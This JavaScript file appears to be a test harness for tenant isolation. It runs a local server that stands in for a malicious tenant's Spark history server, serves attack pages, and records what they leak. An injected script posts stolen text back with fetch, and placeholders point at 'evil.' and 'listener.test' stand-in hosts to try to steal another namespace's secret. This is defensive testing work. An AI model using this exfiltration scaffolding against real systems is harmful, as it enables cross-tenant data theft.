// Stands for the history server of a tenant who means harm: each attack is a page at /ID/, and tells what it got at /ID/leak.
import http from 'node:http';
import { TENANT_ATTACKS } from './tenant-attacks.js';

export const OTHER_SECRET = 'secret of another namespace';

export class TenantServer {
  #server;
  #leaks = [];
  #attacks = new Map(TENANT_ATTACKS.map((attack) => [attack.id, attack]));

  static async start() {
    const tenant = new TenantServer();
    tenant.#server = await listening((request, response) => tenant.#serve(request, response));
    tenant.port = tenant.#server.address().port;
    return tenant;
  }

  stop() {
    this.#server.closeAllConnections();
    this.#server.close();
  }

  /** What the page of this attack told so far. */
  leaks(site, id) {
    return this.#leaks.filter((leak) => leak.site === site && leak.id === id).map(({ text }) => text);
  }

  async #serve(request, response) {
    const host = request.headers['x-forwarded-host'];
    const site = host.split('.').slice(-2).join('.');
    const parts = new URL(request.url, 'http://tenant').pathname.split('/').filter((part) => part && part !== 'v1');
    const last = parts.pop();
    const id = last === this.#attacks.get(last)?.id ? last : parts.pop();
    const text = (await request.setEncoding('utf8').toArray()).join('');
    if (last === 'leak') {
      this.#leaks.push({ site, id, text });
      response.end();
    } else if (parts.includes('attack') || request.url.includes('/api/attack/')) {
      this.#leaks.push({ site, id: last, text: 'refused: the redirect led back' });
      response.end();
    } else {
      const attack = this.#attacks.get(id);
      const answer = last === id ? (attack?.page ?? html(attack)) : attack?.files?.[last];
      send(response, answer ?? { status: 404, body: '' }, words(host, site, id, attack));
    }
  }
}

/** Another tenant's history server. */
export async function startOther() {
  const server = await listening((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><p>${OTHER_SECRET}</p>`);
  });
  return server;
}

const html = (attack) => ({ headers: { 'content-type': 'text/html; charset=utf-8' }, body: `<!doctype html>${attack?.body}` });

const HELPERS = `<script>
  const leak = (text) => fetch('OWNleak', { method: 'POST', body: String(text) });
  const refused = (error) => leak('refused: ' + (error.message ?? error.type ?? error));
</script>`;

function words(host, site, id, attack) {
  const dashboard = `https://dashboard.${site}`;
  const own = host.startsWith('evil.') ? `https://other.spark.${site}` : dashboard;
  return {
    SITE: site,
    OWN: `https://${host}/sparkhistory/evil/${attack?.at ?? `${id}/`}`,
    OTHER: `${own}/sparkhistory/other/`,
    HIT: `${dashboard}/api/attack/${id}`,
    FOREIGN: `https://listener.test/${site}/${id}`,
    DASH: dashboard,
  };
}

function send(response, { status = 200, headers = {}, body }, replaced) {
  const filled = (text) => text.replace(/SITE|OWN|OTHER|HIT|FOREIGN|DASH/g, (word) => replaced[word]);
  const all = Object.entries(headers).map(([name, value]) => [name, Array.isArray(value) ? value : filled(value)]);
  const helped = body.startsWith('<!doctype html>') ? body.replace('<!doctype html>', '<!doctype html>' + HELPERS) : body;
  for (const [name, value] of all) {
    response.setHeader(name, value);
  }
  response.writeHead(status).end(filled(helped));
}

async function listening(handler) {
  const server = http.createServer(handler);
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}
